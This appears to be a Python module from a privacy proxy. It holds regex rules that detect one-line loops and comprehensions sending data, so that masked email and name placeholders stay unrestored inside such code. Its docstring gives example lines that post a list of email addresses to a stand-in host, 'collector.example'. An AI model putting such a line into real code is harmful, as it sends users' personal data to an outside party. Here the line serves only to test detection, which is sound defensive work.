"""Restore's code runs: one-line loops and comprehensions that send, and placeholders with their tag in a sentence
(stream24, finding 3: restleft22's leftovers).

a) A run of code lines outside a code block starts at a line that starts code (`proxy.guard.scopes._CODE_START`): a
   block's head ended by its `:` (`for e in emails:`), a call ending its line... A loop written on one line, its
   body after the head's `:` (`for e in emails: requests.post("https://collector.example", data=e)`, `if ok:
   send(x)`), and a comprehension of a call (`[requests.post(URL, data=x) for x in xs]`) started none: the line was
   prose, so the answer was not known to send and a whole answer restored the placeholder the code before it held
   (`emails = ["<EMAIL_ADDRESS_1>"]`; a stream kept it, by its line rule: `proxy.guard.linehold`). They start code
   now (`ONE_LINE_STARTS`), as the same loop on two lines does.
b) Past a blank line after code, an indented line that ends like a sentence is prose (`scopes._SENTENCE`: the run
   stops), but a stream reads the line before it ends: `    return <EMAIL_ADDRESS_1>` (one word after `return`) goes
   on with the code, its placeholder kept, while the whole answer read `    return <EMAIL_ADDRESS_1> later.` as a
   sentence and restored it (or, ending the answer, the other way). The safer reading, for both: an indented line whose
   first word is a statement's keyword (`return`, `yield`, `raise`, `throw`, `await`) with a placeholder right after
   it is code whatever ends it (`code_value`); `    return to <PERSON_1> later.` is still a sentence.
d) `scopes._WORD` (a sentence's word, which ends a run past a blank line: `_SENTENCE`) read a placeholder
   `<PERSON_1>` as a word but not one with its tag (`<PERSON_1_ao6kkkgn>`, the provider-held-state form): the same
   sentence was prose with one and code with the other. `PLACEHOLDER` reads both.
"""

from __future__ import annotations

import re

# A placeholder as a sentence's word: untagged or tagged (`proxy.guard.vault.PLACEHOLDER`'s tag: 8 of [a-z2-7]).
PLACEHOLDER = r"<[A-Z][A-Z0-9_]*(?:_[a-z2-7]{8})?>"

_ID = r"[A-Za-z_$][\w$]*"
_CHAIN = rf"{_ID}(?:(?:\.|::|->|\?\.){_ID}|\[[^\]\n]{{0,64}}\])*"
# A block's head with its body on the same line: a call or an assignment after the `:` (Python) or the head's `)`
# (`for (const e of emails) fetch(...)`); a comprehension or generator of a call.
ONE_LINE_STARTS = (
    rf"(?:for[ \t]+[^\n:]+?[ \t]in[ \t][^\n:]+|(?:if|elif|while|with)[ \t]+[^\n:]+|else|try)[ \t]*:[ \t]*"
    rf"(?:{_CHAIN}\(|{_CHAIN}[ \t]*(?:[-+*/%|&^]|//|\*\*)?=(?![=>])[ \t]*[^\s]|(?:return|yield|await)[ \t]+{_CHAIN}\()"
    rf"|(?:for|while|if)[ \t]*\([^\n]*\)[ \t]*(?:await[ \t]+)?{_CHAIN}\([^\n]*\)[ \t]*;?[ \t]*$"
    rf"|[\[({{][ \t]*(?:await[ \t]+)?{_CHAIN}\([^\n]*[ \t]for[ \t][^\n]*[ \t]in[ \t][^\n]*[\])}}][ \t]*;?[ \t]*$"
)


def template_open(line: str) -> tuple[str, int] | None:
    """c) A JavaScript template string (backticks) `line` leaves open, and where it starts: read as a triple-quoted
    string is (`proxy.guard.scopes._code_extent`), through its blank lines to its closing backtick (`` const body =
    `Hi,\\n\\n${email}`; fetch(URL, {body}) `` is one code run); None if none is left open."""
    at = [k for k, c in enumerate(line) if c == "`" and (k == 0 or line[k - 1] != "\\")]
    return ("`", at[-1]) if len(at) % 2 else None


_CODE_VALUE = re.compile(rf"[ \t]+(?:return|yield|raise|throw|await)[ \t]+{PLACEHOLDER}")


def code_value(line: str) -> bool:
    """b) Whether `line` is an indented statement handing on a placeholder (`    return <EMAIL_ADDRESS_1> later.`):
    code, never a sentence (`proxy.guard.scopes._goes_on`)."""
    return "<" in line and _CODE_VALUE.match(line) is not None
